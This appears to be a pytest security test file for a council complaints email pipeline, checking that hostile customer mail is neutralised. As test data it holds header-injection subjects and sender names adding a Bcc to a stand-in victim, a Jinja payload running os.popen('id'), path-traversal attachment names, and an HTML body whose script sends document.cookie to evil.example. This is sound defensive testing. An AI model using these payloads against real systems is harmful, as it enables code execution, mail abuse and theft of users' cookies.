"""Hostile customer mail through the whole path, from the inbound pipeline to the mail mailflow
sends: each attack is refused or neutralised.

Each test records a crafted message with ``Inbound.process`` (SQLite), lets the outbox worker
compose and "send" what was decided (``MemoryBackend``), and reads the bytes that would have left.
Forged officer replies are left to issue 4, whose officer path was still being written.
"""

from __future__ import annotations

import asyncio
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import pytest
from docx import Document
from sqlalchemy import Engine
from sqlmodel import select

from mailflow.config import MailboxConfig
from mailflow.ingest.source import Fetched
from mailflow.mail.limits import Limits
from mailflow.outbound.memory import MemoryBackend
from mailflow.outbound.worker import OutboxWorker
from mailflow.pipeline.inbound import Inbound
from mailflow.policy.council import load_policy
from mailflow.store.blobs import BlobStore
from mailflow.store.db import make_engine, session_scope
from mailflow.store.migrate import upgrade
from mailflow.store.models import Message
from mailflow.store.vocab import MessageStatus

POLICY = load_policy("stafford")
NOW = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
CUSTOMER = "jane.smith@customer.example"
COMPLAINT = "I want to make a formal complaint: my bin was missed again this week."
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@dataclass
class Flow:
    """The pipeline and the outbox worker on one SQLite database."""

    inbound: Inbound
    worker: OutboxWorker
    backend: MemoryBackend
    engine: Engine
    root: Path
    uid: int = 0

    def receive(self, raw: bytes) -> tuple[str | None, list[EmailMessage]]:
        """Record ``raw``, send everything it caused; the folder and the mail sent."""
        self.uid += 1
        before = len(self.backend.sent)
        fetched = Fetched(mailbox="complaints", uidvalidity=1, uid=self.uid, raw=raw)
        folder = self.inbound.process(fetched)
        while asyncio.run(self.worker.run_once()):
            pass
        sent = [message_from_bytes(m.data, policy=policy.default) for m in self.backend.sent]
        return folder, sent[before:]

    def stored(self) -> Message:
        with session_scope(self.engine) as s:
            return list(s.exec(select(Message)))[-1]


@pytest.fixture
def flow(tmp_path: Path) -> Iterator[Flow]:
    url = f"sqlite:///{tmp_path / 'mailflow.db'}"
    upgrade(url)
    engine = make_engine(url)
    blobs = BlobStore(tmp_path / "blobs")
    backend = MemoryBackend()
    inbound = Inbound(
        policy=POLICY,
        engine=engine,
        blobs=blobs,
        mailbox=MailboxConfig(name="complaints", address="complaints@council.test"),
        own_addresses=frozenset({"complaints@council.test"}),
        limits=Limits(max_bytes=1024 * 1024, attachment_cap=64 * 1024),
        clock=lambda: NOW,
    )
    worker = OutboxWorker(
        engine,
        POLICY,
        backend,
        holder="security-test",
        clock=lambda: NOW,
        blobs=blobs,
        mailboxes={"complaints": "complaints@council.test"},
        reply_key=b"test-secret",
    )
    yield Flow(inbound, worker, backend, engine, tmp_path)
    engine.dispose()


def mail(subject: str, body: str = COMPLAINT, sender: str = f"Jane Smith <{CUSTOMER}>") -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "complaints@council.test"
    msg["Subject"] = subject
    msg["Message-ID"] = "<hostile-1@customer.example>"
    msg.set_content(body)
    return bytes(msg)


def raw_mail(headers: str, body: str = COMPLAINT) -> bytes:
    return (headers + "\r\nMessage-ID: <raw-1@customer.example>\r\n\r\n" + body + "\r\n").encode()


def header_lines(message: EmailMessage) -> list[str]:
    """The header section as sent, one entry per header field (continuations joined)."""
    head = message.as_bytes(policy=policy.SMTP).split(b"\r\n\r\n", 1)[0].decode("ascii")
    return re.split(r"\r\n(?![ \t])", head)


def assert_headers_clean(sent: list[EmailMessage], allowed: set[str]) -> None:
    """No mail gained a header field or a recipient from customer text."""
    for message in sent:
        names = [line.split(":", 1)[0].lower() for line in header_lines(message)]
        assert "bcc" not in names
        assert names.count("to") == 1 and names.count("subject") == 1
        recipients = (
            {a.addr_spec for h in ("To", "Cc") for a in message[h].addresses}
            if message["Cc"]
            else {a.addr_spec for a in message["To"].addresses}
        )
        assert recipients <= allowed, recipients
        for value in message.values():
            assert "\n" not in str(value) and "\r" not in str(value)


OFFICERS = {p.address for p in POLICY.rules.directory.roles.values()} | {
    getattr(s, role).address
    for s in POLICY.rules.directory.services.values()
    for role in type(s).model_fields
    if hasattr(getattr(s, role), "address")
}


@pytest.mark.parametrize(
    "subject",
    [
        "=?UTF-8?Q?Missed_bins=0D=0ABcc:_victim@evil.example?=",
        "=?UTF-8?B?TWlzc2VkIGJpbnMKQmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
        # U+2028, a line separator to str.splitlines()
        "=?UTF-8?B?TWlzc2VkIGJpbnPigKhCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
    ],
)
def test_subject_carrying_a_newline_adds_no_header_or_recipient_to_any_mail_sent(
    flow: Flow, subject: str
) -> None:
    """Header injection through the subject (CVE-2024-6923): the acknowledgement and the staff
    notices quoting it gain no Bcc, no extra recipient, no line break."""
    folder, sent = flow.receive(mail(subject))
    assert folder == "Processed" and sent
    assert_headers_clean(sent, {CUSTOMER, *OFFICERS})
    assert [m for m in sent if CUSTOMER in m["To"]]


@pytest.mark.parametrize(
    "sender",
    [
        f"=?UTF-8?Q?Jane=0D=0ABcc:_victim@evil.example?= <{CUSTOMER}>",
        f'"Jane, Victim <victim@evil.example>" <{CUSTOMER}>',
        f'"victim@evil.example" <{CUSTOMER}>',
        f"victim@evil.example) <{CUSTOMER}>",
    ],
)
def test_sender_name_never_adds_a_header_or_a_recipient(flow: Flow, sender: str) -> None:
    """Header injection through the sender's name: the acknowledgement goes to the customer
    alone with a clean To, or the mail is refused into quarantine; nobody else is written to."""
    folder, sent = flow.receive(raw_mail(f"From: {sender}\r\nSubject: Missed bins"))
    assert_headers_clean(sent, {CUSTOMER, *OFFICERS})
    envelopes = {r for m in flow.backend.sent for r in m.recipients}
    assert "victim@evil.example" not in envelopes
    if folder == "Quarantine":
        assert flow.stored().quarantine_reason


TEMPLATE_ATTACKS = (
    "{{ 7*7 }} {% for x in range(3) %}X{% endfor %} "
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} ${7*7} <w:t>&amp;</w:t>"
)


def test_template_syntax_from_the_customer_is_printed_literally_in_mail_and_letter(
    flow: Flow,
) -> None:
    """Template injection: Jinja syntax and Word XML in the subject and text come out as typed,
    in the mail and in the Word letter, and never run."""
    _folder, sent = flow.receive(
        mail(f"Bins {TEMPLATE_ATTACKS}", body=f"{COMPLAINT}\n{TEMPLATE_ATTACKS}")
    )
    [ack] = [m for m in sent if CUSTOMER in m["To"]]
    plain = ack.get_body(("plain",))
    assert plain is not None
    text = plain.get_content()
    assert "{{ 7*7 }}" in str(ack["Subject"]) and "49" not in str(ack["Subject"])
    assert "uid=" not in text and "XXX" not in text
    [letter] = [p for p in ack.iter_attachments() if p.get_content_type() == DOCX]
    document = Document(io.BytesIO(letter.get_content()))
    words = "\n".join(p.text for p in document.paragraphs) + "".join(
        cell.text for table in document.tables for row in table.rows for cell in row.cells
    )
    assert "{{ 7*7 }}" in words and "<w:t>&amp;</w:t>" in words
    assert "uid=" not in words and " 49 " not in words


def with_attachments(names: list[str]) -> bytes:
    msg = EmailMessage()
    msg["From"] = f"Jane Smith <{CUSTOMER}>"
    msg["To"] = "complaints@council.test"
    msg["Subject"] = "Photos of the missed bin"
    msg["Message-ID"] = "<attach-1@customer.example>"
    msg.set_content(COMPLAINT)
    for i, name in enumerate(names):
        msg.add_attachment(f"payload {i}".encode(), "application", "octet-stream", filename=name)
    return bytes(msg)


TRAVERSALS = [
    "../../../../../../tmp/mailflow-evil-1.txt",
    "..\\..\\..\\windows\\mailflow-evil-2.ini",
    "/tmp/mailflow-evil-3.txt",
    "....//....//mailflow-evil-4.txt",
    "%2e%2e%2fmailflow-evil-5.txt",
    "mailflow-evil-6\x00.txt",
    "..",
]


def test_attachment_names_with_paths_never_place_a_file_outside_the_blob_store(
    flow: Flow,
) -> None:
    """Path traversal in attachment names: every name is cut to a bare file name and the bytes
    are stored under their digest inside the blob store, nowhere else."""
    outside = [Path("/tmp") / f"mailflow-evil-{n}.txt" for n in range(1, 7)]
    folder, _sent = flow.receive(with_attachments(TRAVERSALS))
    assert folder == "Processed"
    names = [a["filename"] for a in flow.stored().attachments]
    assert len(names) == len(TRAVERSALS)
    for name in names:
        assert "/" not in name and "\\" not in name and "\x00" not in name
        assert not name.startswith(".")
    files = [p for p in flow.root.rglob("*") if p.is_file()]
    blobs = flow.root / "blobs"
    for path in files:
        assert path.name.startswith("mailflow.db") or (
            path.is_relative_to(blobs) and re.fullmatch(r"[0-9a-f]{62}", path.name)
        ), path
    assert not any(p.exists() for p in outside)
    assert not list(flow.root.rglob("mailflow-evil*"))


SCRIPTED = """<html><head><script>alert('head')</script><style>body{}</style></head><body>
<p>My bin was missed again. I wish to complain.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert('img')"><a href="javascript:alert('link')">see here</a>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object>
<svg onload="alert('svg')"></svg></body></html>"""


def test_html_body_with_scripts_is_stored_and_relayed_without_active_content(
    flow: Flow,
) -> None:
    """An HTML body with scripts, handlers and frames: the stored text keeps the words and none
    of the code, and no mail sent carries it as active content."""
    msg = EmailMessage()
    msg["From"] = f"Jane Smith <{CUSTOMER}>"
    msg["To"] = "complaints@council.test"
    msg["Subject"] = "Missed bin"
    msg["Message-ID"] = "<html-1@customer.example>"
    msg.set_content(SCRIPTED, subtype="html")
    folder, sent = flow.receive(bytes(msg))
    assert folder == "Processed" and sent
    text = flow.stored().text
    assert "My bin was missed again" in text
    for code in ("<script", "alert(", "onerror", "javascript:", "document.cookie", "<iframe"):
        assert code not in text
    for message in sent:
        for part in message.walk():
            if part.get_content_type() == "text/html":
                html = part.get_content().lower()
                assert "<script" not in html and "onerror=" not in html
                assert "javascript:" not in html and "<iframe" not in html


def test_an_oversized_message_is_quarantined_and_nobody_outside_is_written_to(
    flow: Flow,
) -> None:
    """An oversized message is refused before parsing: kept raw in quarantine with the reason,
    customer services told, and no mail to the sender."""
    raw = mail("Huge", body=COMPLAINT + "\n" + "x" * (2 * 1024 * 1024))
    folder, sent = flow.receive(raw)
    assert folder == "Quarantine"
    stored = flow.stored()
    assert stored.status is MessageStatus.QUARANTINED
    assert "limit" in (stored.quarantine_reason or "")
    assert stored.raw_blob and flow.inbound.blobs.get(stored.raw_blob) == raw
    assert all(CUSTOMER not in str(m["To"]) for m in sent)
    assert [m["To"].addresses[0].addr_spec for m in sent] == [
        POLICY.person("service_officer", "customer_services").address  # type: ignore[union-attr]
    ]
